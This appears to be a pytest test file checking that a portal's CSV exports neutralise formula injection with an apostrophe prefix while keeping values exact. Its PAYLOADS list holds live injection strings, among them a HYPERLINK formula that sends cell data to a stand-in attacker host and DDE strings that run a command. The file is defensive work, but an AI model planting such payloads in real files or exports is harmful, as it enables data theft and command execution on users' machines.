"""CSV formula injection: every CSV file the portal writes shows a text that starts like a formula
as text (OWASP's rule), numbers stay numbers, the JSON keeps the text exact, and a file exported
and imported again keeps its texts."""

import csv
import io

import pytest
from sqlalchemy import select

from app.charters.models import Indicator
from app.core.tabular import FileSpec, read_csv, safe_cell, to_csv, unsafe_cell
from app.core.types import Period
from app.extensions import db
from app.indicators.services.engine import record_measurement
from tests.factories import make_charter, make_service

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Ver")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_cell_that_starts_like_a_formula_starts_with_an_apostrophe(text):
    assert safe_cell(text) == "'" + text
    assert unsafe_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", ["-3.5", "+12", "-1,250.75", "1e-3", "Licencia", "", 42, None])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("text", ["'=Texto con apóstrofo", "''=x", "'-2+3", "'hola", "'"])
def test_a_text_that_already_starts_with_an_apostrophe_reads_back_as_it_was(text):
    assert unsafe_cell(safe_cell(text)) == text


def test_an_exported_file_reads_back_with_the_same_texts():
    spec = FileSpec("notes.csv", ("code", "note"))
    rows = [{"code": "A-1", "note": text.strip()} for text in PAYLOADS]
    written = to_csv(spec.header, rows)
    cells = [row["note"] for row in csv.DictReader(io.StringIO(written))]
    assert all(cell.startswith("'") for cell in cells)
    problems = []
    read = read_csv(spec, written.encode(), problems)
    assert problems == []
    assert [values["note"] for _line, values in read] == [row["note"] for row in rows]


def test_the_open_data_csv_neutralizes_staff_notes_and_the_json_keeps_them(empty_app):
    make_charter([make_service()])
    indicator = db.session.scalar(select(Indicator))
    record_measurement(indicator, Period.parse("2026-T1"), 9, 10, note={"es": PAYLOADS[0]})
    db.session.commit()
    client = empty_app.test_client()
    rows = list(csv.DictReader(io.StringIO(client.get("/api/v1/measurements.csv").text)))
    assert [row["note_es"] for row in rows] == ["'" + PAYLOADS[0]]
    assert rows[0]["numerator"] == "9.00"  # figures untouched
    assert client.get("/api/v1/measurements").json["data"][0]["note"]["es"] == PAYLOADS[0]
